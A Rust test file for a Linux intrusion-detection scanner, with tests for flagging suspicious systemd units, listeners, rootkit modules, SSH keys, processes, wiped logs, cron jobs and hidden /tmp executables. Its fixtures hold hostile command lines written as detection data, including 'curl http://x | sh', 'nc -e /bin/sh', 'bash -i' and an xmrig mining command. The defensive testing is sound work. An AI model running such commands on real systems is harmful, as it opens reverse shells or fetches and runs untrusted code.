use aptnomo::scan::{
    authorized_keys_path, f10_persistence, f20_network, f30_rootkit, f40_ssh, f50_processes,
    f60_logs, f70_cron, f80_files, process_cmdline_findings, rootkit_name_findings, scan_all,
    Severity, SystemSnapshot, TempEntry,
};

const TCP_HEADER: &str = "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode";

#[test]
fn persistence_flags_units_running_from_tmp_or_hidden_dirs() {
    let units = vec![
        ("/etc/systemd/system/evil.service".to_string(), "[Service]\nExecStart=/tmp/payload\n".to_string()),
        ("/etc/systemd/system/ok.service".to_string(), "[Service]\nExecStart=/usr/bin/ok\n".to_string()),
        ("/etc/systemd/system/hidden.service".to_string(), "ExecStart=/home/u/.cache/x\n".to_string()),
    ];
    let t = f10_persistence(&units);
    assert_eq!(t.len(), 2);
    assert_eq!(t[0].module, "persistence");
    assert_eq!(t[0].severity, Severity::High);
    assert_eq!(t[0].description, "systemd unit with suspicious ExecStart: /etc/systemd/system/evil.service");
    assert_eq!(t[0].path.as_deref(), Some("/etc/systemd/system/evil.service"));
    assert_eq!(t[0].pid, None);
    assert!(!t[0].auto_kill);
    assert_eq!(t[1].path.as_deref(), Some("/etc/systemd/system/hidden.service"));
}

#[test]
fn network_flags_unknown_listeners_on_all_interfaces() {
    let table = format!(
        "{}\n{}\n{}\n{}\n{}\n",
        TCP_HEADER,
        "   0: 00000000:1F90 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 111 1",
        "   1: 00000000:115C 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 112 1",
        "   2: 0100007F:0CEA 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 113 1",
        "   3: 00000000:1A0B 0100007F:0016 01 00000000:00000000 00:00000000 00000000     0        0 114 1",
    );
    let t = f20_network(&table);
    assert_eq!(t.len(), 1);
    assert_eq!(t[0].module, "network");
    assert_eq!(t[0].severity, Severity::Medium);
    assert_eq!(t[0].description, "unknown service listening on 0.0.0.0:4444");
    assert_eq!(t[0].path, None);
}

#[test]
fn network_known_ports_and_header_are_skipped() {
    // The header line is skipped even when it looks like a listener.
    let table = "x 00000000:115C y 0A\n   0: 00000000:0016 00000000:0000 0A\n   1: 00000000:01BB 00000000:0000 0A\n";
    assert!(f20_network(table).is_empty());
    assert!(f20_network("").is_empty());
}

#[test]
fn network_port_parsing_edges() {
    // Lowercase hex, a leading plus sign, and values that do not fit 16 bits.
    let table = format!(
        "{}\n{}\n{}\n{}\n{}\n",
        TCP_HEADER,
        "   0: 00000000:abcd 00000000:0000 0A",
        "   1: 00000000:+10 00000000:0000 0A",
        "   2: 00000000:10000 00000000:0000 0A",
        "   3: 00000000: 00000000:0000 0A",
    );
    let t = f20_network(&table);
    assert_eq!(t.len(), 2);
    assert_eq!(t[0].description, "unknown service listening on 0.0.0.0:43981");
    assert_eq!(t[1].description, "unknown service listening on 0.0.0.0:16");
}

#[test]
fn rootkit_flags_each_signature_in_module_names() {
    let modules = "hide_pid 16384 0 - Live 0x0\nKeyLogger 1 0\nnormal 1 0\nstealthrootkit 1 0\n";
    let t = f30_rootkit(modules);
    assert_eq!(t.len(), 4);
    assert_eq!(t[0].description, "suspicious kernel module: hide_pid");
    assert_eq!(t[1].description, "suspicious kernel module: KeyLogger");
    assert_eq!(t[2].description, "suspicious kernel module: stealthrootkit");
    assert_eq!(t[3].description, "suspicious kernel module: stealthrootkit");
    assert_eq!(t[0].severity, Severity::Critical);
    assert!(!t[0].auto_kill);
}

#[test]
fn ssh_flags_more_than_five_keys() {
    let path = authorized_keys_path("/home/alice");
    assert_eq!(path, "/home/alice/.ssh/authorized_keys");
    let six = "ssh-ed25519 AAA1 a\nssh-ed25519 AAA2 b\n# a comment\n\n   \nssh-rsa AAA3 c\nssh-rsa AAA4 d\nssh-rsa AAA5 e\nssh-rsa AAA6 f";
    let t = f40_ssh(&path, six);
    assert_eq!(t.len(), 1);
    assert_eq!(t[0].module, "ssh");
    assert_eq!(t[0].severity, Severity::Medium);
    assert_eq!(t[0].description, "6 SSH authorized keys — verify all are expected");
    assert_eq!(t[0].path.as_deref(), Some("/home/alice/.ssh/authorized_keys"));
    let five = "k1\nk2\nk3\nk4\nk5\n#k6\n";
    assert!(f40_ssh(&path, five).is_empty());
}

#[test]
fn processes_flag_each_signature_and_auto_kill() {
    let procs = vec![
        (4242u32, "./xmrig\0--url\0stratum+tcp://pool:3333\0".to_string()),
        (7u32, "/usr/sbin/sshd\0-D\0".to_string()),
        (99u32, "CRYPTOMINER".to_string()),
    ];
    let t = f50_processes(&procs);
    assert_eq!(t.len(), 3);
    assert_eq!(t[0].description, "suspicious process: ./xmrig --url stratum+tcp://pool:3333");
    assert_eq!(t[0].pid, Some(4242));
    assert!(t[0].auto_kill);
    assert_eq!(t[0].severity, Severity::Critical);
    assert_eq!(t[1].description, t[0].description);
    assert_eq!(t[2].pid, Some(99));
    assert_eq!(t[2].description, "suspicious process: CRYPTOMINER");
}

#[test]
fn processes_match_raw_command_lines() {
    // Arguments separated by NUL match as if separated by spaces.
    let procs = vec![
        (10u32, "nc\0-e\0/bin/sh\0".to_string()),
        (11u32, "sh -c nc -e /bin/sh".to_string()),
    ];
    let t = f50_processes(&procs);
    assert_eq!(t.len(), 2);
    assert_eq!(t[0].pid, Some(10));
    assert_eq!(t[1].pid, Some(11));
}

#[test]
fn logs_flag_empty_log_files() {
    let logs = vec![("/var/log/auth.log".to_string(), 0u64), ("/var/log/syslog".to_string(), 120u64)];
    let t = f60_logs(&logs);
    assert_eq!(t.len(), 1);
    assert_eq!(t[0].description, "log file is empty (possible wipe): /var/log/auth.log");
    assert_eq!(t[0].severity, Severity::High);
    assert_eq!(t[0].path.as_deref(), Some("/var/log/auth.log"));
}

#[test]
fn cron_flags_downloads_and_tmp() {
    let files = vec![
        ("/etc/cron.d/a".to_string(), "* * * * * root curl http://x | sh\n".to_string()),
        ("/etc/cron.d/b".to_string(), "0 3 * * * root /usr/sbin/logrotate\n".to_string()),
        ("/etc/cron.d/c".to_string(), "@reboot wget http://y\n".to_string()),
        ("/etc/cron.d/d".to_string(), "@reboot /tmp/x\n".to_string()),
        ("/etc/cron.d/e".to_string(), "@reboot curl\n".to_string()),
    ];
    let t = f70_cron(&files);
    assert_eq!(t.len(), 3);
    assert_eq!(t[0].description, "cron job with suspicious command: /etc/cron.d/a");
    assert_eq!(t[1].path.as_deref(), Some("/etc/cron.d/c"));
    assert_eq!(t[2].path.as_deref(), Some("/etc/cron.d/d"));
}

fn entry(name: &str, is_file: bool, len: u64, mode: u32) -> TempEntry {
    TempEntry {
        dir: "/tmp".to_string(),
        name: name.to_string(),
        path: format!("/tmp/{}", name),
        is_file,
        len,
        mode,
    }
}

#[test]
fn files_flag_large_hidden_executables() {
    let entries = vec![
        entry(".payload", true, 20000, 0o100755),
        entry(".small", true, 10000, 0o100755),
        entry(".data", true, 20000, 0o100644),
        entry("visible", true, 20000, 0o100755),
        entry(".dir", false, 20000, 0o040755),
        entry(".gexec", true, 10001, 0o100010),
    ];
    let t = f80_files(&entries);
    assert_eq!(t.len(), 2);
    assert_eq!(t[0].description, "hidden executable in /tmp: .payload");
    assert_eq!(t[0].path.as_deref(), Some("/tmp/.payload"));
    assert_eq!(t[0].severity, Severity::Critical);
    assert_eq!(t[1].description, "hidden executable in /tmp: .gexec");
}

#[test]
fn scan_all_runs_every_module_in_order() {
    let snapshot = SystemSnapshot {
        unit_files: vec![("/etc/systemd/system/x.service".to_string(), "ExecStart=/tmp/x".to_string())],
        tcp_table: Some(format!("{}\n   0: 00000000:115C 00000000:0000 0A\n", TCP_HEADER)),
        kernel_modules: Some("rootkit 1 0\n".to_string()),
        authorized_keys: Some(("/root/.ssh/authorized_keys".to_string(), "a\nb\nc\nd\ne\nf\n".to_string())),
        processes: vec![(1234, "xmrig".to_string())],
        log_files: vec![("/var/log/messages".to_string(), 0)],
        cron_files: vec![("/etc/cron.daily/x".to_string(), "wget http://z".to_string())],
        temp_entries: vec![entry(".x", true, 50000, 0o755)],
    };
    let t = scan_all(&snapshot);
    let modules: Vec<&str> = t.iter().map(|t| t.module).collect();
    assert_eq!(modules, vec!["persistence", "network", "rootkit", "ssh", "processes", "logs", "cron", "files"]);
}

#[test]
fn scan_all_of_a_clean_machine_is_empty() {
    let snapshot = SystemSnapshot {
        unit_files: vec![],
        tcp_table: None,
        kernel_modules: None,
        authorized_keys: None,
        processes: vec![],
        log_files: vec![],
        cron_files: vec![],
        temp_entries: vec![],
    };
    assert!(scan_all(&snapshot).is_empty());
}

#[test]
fn rootkit_names_match_in_any_case() {
    let found = f30_rootkit("HideProc 16384 0 - Live 0x0000000000000000\next4 1 0 - Live 0x0\n");
    assert_eq!(found.len(), 1);
    assert_eq!(found[0].description, "suspicious kernel module: HideProc");
}

#[test]
fn rootkit_findings_go_by_the_lowered_name() {
    let found = rootkit_name_findings("Mod", "stealth_rootkit");
    assert_eq!(found.len(), 2);
    assert_eq!(found[0].description, "suspicious kernel module: Mod");
    assert_eq!(found[0].severity, Severity::Critical);
    assert!(rootkit_name_findings("HIDE", "HIDE").is_empty());
}

#[test]
fn processes_match_in_any_case() {
    let procs = vec![(4242u32, "/usr/bin/XMRig\0--url\0pool\0".to_string())];
    let found = f50_processes(&procs);
    assert_eq!(found.len(), 1);
    assert_eq!(found[0].description, "suspicious process: /usr/bin/XMRig --url pool");
    assert_eq!(found[0].pid, Some(4242));
    assert!(found[0].auto_kill);
}

#[test]
fn process_findings_go_by_the_lowered_command_line() {
    let found = process_cmdline_findings(7, "  a\0b  ", "xmrig stratum");
    assert_eq!(found.len(), 2);
    assert_eq!(found[0].description, "suspicious process: a b");
    assert!(process_cmdline_findings(7, "XMRIG", "XMRIG").is_empty());
}

#[test]
fn reverse_shells_match_across_argument_separators() {
    let procs = vec![(4242u32, "nc\0-e\0/bin/sh\0".to_string()), (5u32, "bash\0-i\0".to_string())];
    let found = f50_processes(&procs);
    assert_eq!(found.len(), 2);
    assert_eq!(found[0].description, "suspicious process: nc -e /bin/sh");
    assert_eq!(found[0].pid, Some(4242));
    assert!(found[0].auto_kill);
    assert_eq!(found[0].severity, Severity::Critical);
    assert_eq!(found[1].description, "suspicious process: bash -i");
}

#[test]
fn only_exec_start_lines_count_for_units() {
    let units = vec![
        ("/etc/systemd/system/a.service".to_string(), "[Service]\nEnvironment=X=/tmp/\nExecStart=/usr/bin/a\n".to_string()),
        ("/etc/systemd/system/b.service".to_string(), "  ExecStart=/opt/.hidden/b  \n".to_string()),
        ("/etc/systemd/system/c.service".to_string(), "ExecStartPre=/tmp/c\n".to_string()),
    ];
    let t = f10_persistence(&units);
    assert_eq!(t.len(), 1);
    assert_eq!(t[0].path.as_deref(), Some("/etc/systemd/system/b.service"));
}
